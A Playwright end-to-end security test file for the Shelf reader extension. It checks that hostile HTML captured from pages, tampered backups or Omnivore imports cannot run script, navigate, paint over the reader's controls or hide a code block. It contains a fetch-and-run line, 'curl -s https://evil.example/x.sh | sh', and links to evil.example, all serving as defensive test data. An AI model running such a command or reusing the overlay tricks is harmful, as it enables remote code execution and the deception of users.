import { readFileSync } from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import { strToU8, zipSync } from 'fflate';
import { findUnsafeMarkup } from '../fixtures/security/find-unsafe-markup';
import { HTML_PAYLOADS } from '../fixtures/security/html-payloads';
import { type E2eBrowser, getSidePanelView, launchE2eBuild, saveWithMenu, showInSidePanel } from './pages/e2e-build';

/**
 * The payload corpus (tests/fixtures/security/html-payloads.ts) in a real Chromium, through every
 * way HTML reaches Shelf's reader: a real capture of a page carrying it, a Shelf backup whose
 * stored copies were replaced with the raw payloads (so the reader's own sanitizer is all that
 * stands between them and the page), and an Omnivore zip. Each copy is shown in the side panel;
 * nothing may run, load, navigate or be left unsafe in the DOM. The sanitizer alone is covered in
 * Node too (tests/unit/lib/capture/html-payloads.test.ts).
 */
const filler =
  '<p>Connection pools bound how many queries run at once, and a queue holds the rest of them. </p>'.repeat(8);
const articleWith = (id: string, html: string) => `<article><h1>Payload ${id}</h1>${filler}${html}${filler}</article>`;

let browser: E2eBrowser;
test.beforeAll(async () => {
  browser = await launchE2eBuild();
});
test.afterAll(async () => {
  await browser?.close();
});

/**
 * What an extension page must never do: run script, open a dialog, trip its content security
 * policy, request evil.example or leave itself. (Parsing hostile HTML with DOMParser, as the
 * importer and the sanitizer do, reports each inline handler it meets as a CSP violation of the
 * document, though nothing can run in a parsed document; a handler that reached the live page
 * would report at its element.)
 */
async function watchForHarm(page: Page): Promise<() => Promise<string[]>> {
  const harm: string[] = [];
  page.on('dialog', (dialog) => {
    harm.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (/evil\.example|tracker\.example/.test(request.url())) harm.push(`request: ${request.url()}`);
  });
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame()) harm.push(`navigated: ${frame.url()}`);
  });
  await page.evaluate(() => {
    const violations: string[] = [];
    document.addEventListener(
      'securitypolicyviolation',
      (event) => {
        if (event.violatedDirective === 'script-src-attr' && event.target === document) return; // parsed, not live
        violations.push(
          `CSP ${event.violatedDirective}: ${event.sample || event.blockedURI} at ${(event.target as Node).nodeName}`,
        );
      },
      true,
    );
    Object.defineProperty(window, '__violations', { value: violations });
  });
  return async () => [
    ...harm,
    ...(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)),
  ];
}

/** Shelf's own backup of everything, as the Settings view's "Export backup" writes it. */
async function exportBackup(panel: Page): Promise<{
  items: Array<{ id: string; url: string | null }>;
  captures: Array<{ itemId: string; html: string; updatedAt: number }>;
}> {
  await panel.getByRole('button', { name: 'Settings', exact: true }).click();
  const [download] = await Promise.all([
    panel.waitForEvent('download'),
    panel.getByRole('button', { name: 'Export backup' }).click(),
  ]);
  return JSON.parse(readFileSync((await download.path()) ?? '', 'utf8'));
}

/**
 * Opens `url`, saves it with the menu and returns its item, once the side panel shows it. The browser
 * is shared: until then the panel may show an earlier test's copy.
 */
async function saveShownPage(url: string): Promise<string> {
  const source = await browser.context.newPage();
  await source.goto(url);
  const before = (await getSidePanelView(browser.worker))?.itemId;
  await saveWithMenu(browser.worker, url);
  await expect.poll(async () => (await getSidePanelView(browser.worker))?.itemId).not.toBe(before);
  const view = await getSidePanelView(browser.worker);
  expect(view?.kind).toBe('reader');
  return view?.itemId ?? '';
}

/** Shows each item in the open side panel and returns what is wrong with any of them. */
async function inspectEach(panel: Page, items: Array<{ id: string; itemId: string }>): Promise<string[]> {
  const findings: string[] = [];
  for (const { id, itemId } of items) {
    await showInSidePanel(browser.worker, itemId);
    // Polled in the page every 20 ms (411 copies are shown: expect's back-off polling cost minutes).
    await panel.waitForFunction(
      (title) =>
        document.querySelector('#reader-title')?.textContent === title &&
        document.querySelector('.reader-body')?.textContent?.includes('Connection pools bound'),
      `Payload ${id}`,
      { polling: 20, timeout: 30_000 },
    );
    const body = panel.locator('.reader-body');
    for (const finding of await body.evaluate(findUnsafeMarkup)) findings.push(`${id}: ${finding}`);
    const pwned = await panel.evaluate(() => (window as { __shelfPwned?: unknown }).__shelfPwned);
    if (pwned !== undefined) findings.push(`${id}: script ran (${String(pwned)})`);
  }
  return findings;
}

test('hostile HTML runs nothing, loads nothing and is left safe through a capture, a backup and an Omnivore zip', async () => {
  test.setTimeout(15 * 60_000); // 137 payloads × 3 paths, each shown in the reader
  const panel = await browser.openExtensionPage('sidepanel.html');
  const harm = await watchForHarm(panel);
  const source = await browser.context.newPage();

  // 1. A real capture of a page carrying each payload (the page's own scripts may run: it is the page).
  const captured: Array<{ id: string; itemId: string }> = [];
  for (const { id, html } of HTML_PAYLOADS) {
    const url = await browser.servePage(
      `/payload/${id}`,
      `<!doctype html><html><head><title>Payload ${id}</title></head><body><main>${articleWith(id, html)}</main></body></html>`,
    );
    await source.goto(url);
    const before = (await getSidePanelView(browser.worker))?.itemId;
    await saveWithMenu(browser.worker, url);
    await expect
      .poll(async () => (await getSidePanelView(browser.worker))?.itemId, { message: id, intervals: [25] })
      .not.toBe(before);
    const view = await getSidePanelView(browser.worker);
    expect(view?.kind, `${id}: ${view?.text}`).toBe('reader');
    captured.push({ id, itemId: view?.itemId ?? '' });
  }
  expect(await inspectEach(panel, captured), 'capture').toEqual([]);

  // 2. A backup as Shelf writes it, each stored copy replaced with the raw payload (and made newer).
  const backup = await exportBackup(panel);
  const byItem = new Map(captured.map(({ id, itemId }) => [itemId, id]));
  for (const copy of backup.captures) {
    const id = byItem.get(copy.itemId) ?? '';
    // Read as an article, though its forms answer to their controls' names before their own properties:
    // the story is kept, as paragraphs, and its "Related:" and comments lines are not.
    if (id === 'form-controls-shadow-form') {
      expect(copy.html.match(/<p>Connection pools bound/g)?.length, id).toBe(16);
      expect(copy.html, id).not.toMatch(/Related: another story|Comments \(5 posted\)/);
    }
    copy.html = articleWith(id, HTML_PAYLOADS.find((payload) => payload.id === id)?.html ?? '');
    copy.updatedAt += 1;
  }
  await panel.getByLabel('Backup file').setInputFiles({
    name: 'tampered.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(backup)),
  });
  await expect(panel.getByRole('status').filter({ hasText: 'Imported tampered.json' })).toBeVisible();
  expect(await inspectEach(panel, captured), 'backup').toEqual([]);

  // 3. An Omnivore export with each payload as a saved page's content.
  const metadata = HTML_PAYLOADS.map(({ id }) => ({
    slug: id,
    title: `Payload ${id}`,
    url: `https://omnivore.example/${id}`,
    state: 'SUCCEEDED',
    savedAt: '2024-05-01T09:00:00.000Z',
  }));
  const files: Record<string, Uint8Array> = { 'metadata_0_to_200.json': strToU8(JSON.stringify(metadata)) };
  for (const { id, html } of HTML_PAYLOADS) {
    files[`content/${id}.html`] = strToU8(
      `<html><head><title>Payload ${id}</title></head><body>${articleWith(id, html)}</body></html>`,
    );
  }
  await panel.getByRole('button', { name: 'Settings', exact: true }).click();
  await panel.getByLabel(/Import a file/).setInputFiles({
    name: 'omnivore.zip',
    mimeType: 'application/zip',
    buffer: Buffer.from(zipSync(files)),
  });
  await expect(panel.getByRole('status').filter({ hasText: 'omnivore.zip' })).toContainText(
    `${HTML_PAYLOADS.length} added`,
    {
      timeout: 60_000,
    },
  );
  const idByUrl = new Map((await exportBackup(panel)).items.map((item) => [item.url, item.id]));
  const imported = HTML_PAYLOADS.map(({ id }) => ({ id, itemId: idByUrl.get(`https://omnivore.example/${id}`) ?? '' }));
  expect(await inspectEach(panel, imported), 'Omnivore').toEqual([]);

  expect(await harm()).toEqual([]);
});

for (const reader of ['the side panel', 'the reader tab']) {
  test(`in ${reader}, Tab and Enter on every link of a hostile copy navigates nowhere`, async () => {
    const url = await browser.servePage(
      `/payload/links-${reader.replace(/\W+/g, '-')}`,
      `<!doctype html><html><head><title>Links</title></head><body><main>${articleWith(
        'links',
        [
          '<p><a href="https://ok.example/one">An ordinary link</a> and <a href="#top">a fragment</a>.</p>',
          HTML_PAYLOADS.find((payload) => payload.id === 'area-href')?.html,
          '<map name="n"><area shape="default" href="https://evil.example/default-area" alt="a whole-image area"></map>',
          '<img usemap="#n" src="https://ok.example/i.png" alt="an image map">',
          '<a href="https://evil.example/self" target="_self">target self</a>',
        ].join(''),
      )}</main></body></html>`,
    );
    const itemId = await saveShownPage(url);
    const page =
      reader === 'the side panel'
        ? await browser.openExtensionPage('sidepanel.html')
        : await browser.openExtensionPage(`sidepanel.html?reader=${encodeURIComponent(itemId)}`);
    await expect(page.locator('.reader-body')).toContainText('An ordinary link');
    const address = page.url();
    // Any attempt counts, even one the stubbed network answers with 204 (which keeps the page).
    const navigations: string[] = [];
    page.on('request', (request) => {
      if (request.isNavigationRequest() && request.frame() === page.mainFrame()) navigations.push(request.url());
    });

    // Every Tab stop in the copy, pressed with Enter, the way a keyboard user would.
    await page.locator('.reader-body').evaluate((body) => {
      const start = document.createElement('span');
      start.tabIndex = 0;
      body.prepend(start);
      start.focus();
    });
    let stops = 0;
    for (let press = 0; press < 20; press++) {
      await page.keyboard.press('Tab');
      const inCopy = await page.evaluate(() => document.activeElement?.closest('.reader-body') !== null);
      if (!inCopy) break;
      stops++;
      await page.keyboard.press('Enter');
      await page.bringToFront();
    }
    await page.waitForTimeout(300);
    expect(navigations).toEqual([]);
    expect(page.url()).toBe(address);
    expect(stops).toBeGreaterThan(0);
    expect(stops).toBeLessThan(5); // the two links that are left (no invisible stop such as an area)
  });
}

// A drawing set to overflow its box covered the reader's title, "Open original" and the end buttons,
// and a real click on "Open original" opened the copy's link instead (red-team pass).
test('a copy cannot paint over the reader’s own controls: clicks on them reach them', async () => {
  const overlay = HTML_PAYLOADS.find((payload) => payload.id === 'svg-overflow-overlay')?.html ?? '';
  const url = await browser.servePage(
    '/payload/overlay',
    `<!doctype html><html><head><title>Overlay</title></head><body><main>${articleWith('overlay', overlay)}</main></body></html>`,
  );
  const itemId = await saveShownPage(url);
  for (const page of [
    await browser.openExtensionPage('sidepanel.html'),
    await browser.openExtensionPage(`sidepanel.html?reader=${encodeURIComponent(itemId)}`),
  ]) {
    await expect(page.locator('.reader-body')).toContainText('Connection pools bound');
    const requests: string[] = [];
    page.context().on('request', (request) => {
      if (request.url().includes('evil.example')) requests.push(request.url());
    });
    for (const control of [
      page.getByRole('heading', { level: 1, name: /overlay/i }),
      page.getByRole('link', { name: 'Open original' }),
      page.getByRole('button', { name: 'Mark as done' }),
    ]) {
      await control.scrollIntoViewIfNeeded();
      // What a click at the control's centre would reach: the control itself, not the copy's drawing.
      const reached = await control.evaluate((element) => {
        const box = element.getBoundingClientRect();
        const hit = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
        return hit !== null && (element === hit || element.contains(hit));
      });
      expect(reached).toBe(true);
    }
    await page.getByRole('link', { name: 'Open original' }).click();
    await page.waitForTimeout(300);
    expect(requests).toEqual([]);
  }
});

// A formula moved (MathML's voffset) over a code block showed a made-up command there, while the code
// block's Copy pasted the real one (security pass): what is seen at the code block is the code.
test('a copy’s formula cannot cover its code block: the code is what shows there', async () => {
  const code = 'curl -s https://evil.example/x.sh | sh';
  const formula =
    '<p><math><mpadded voffset="66px"><mpadded width="364px" height="28px" depth="19px" mathbackground="#f0f0f0"><mspace width="16px"></mspace><mtext mathcolor="#1b1f27" mathsize="15px">npm install left-pad</mtext></mpadded></mpadded></math></p>';
  const url = await browser.servePage(
    '/payload/code-overlay',
    `<!doctype html><html><head><title>Install guide</title></head><body><main>${articleWith('code-overlay', `<pre><code>${code}</code></pre>${formula}`)}</main></body></html>`,
  );
  const itemId = await saveShownPage(url);
  const page = await browser.openExtensionPage(`sidepanel.html?reader=${encodeURIComponent(itemId)}`);
  const block = page.locator('.reader-body pre code');
  await expect(block).toHaveText(code);
  await block.scrollIntoViewIfNeeded();
  const shown = await block.evaluate((element) => {
    const box = element.getBoundingClientRect();
    const points = [0.1, 0.5, 0.9].map((x) => [box.left + box.width * x, box.top + box.height / 2] as const);
    return points.map(([x, y]) => {
      const hit = document.elementFromPoint(x, y);
      return hit !== null && (hit === element || element.contains(hit) || hit.contains(element));
    });
  });
  expect(shown).toEqual([true, true, true]);
  await expect(page.locator('.reader-body mtext')).toHaveText('npm install left-pad');
  expect(await page.locator('.reader-body [mathbackground], .reader-body [voffset]').count()).toBe(0);
});
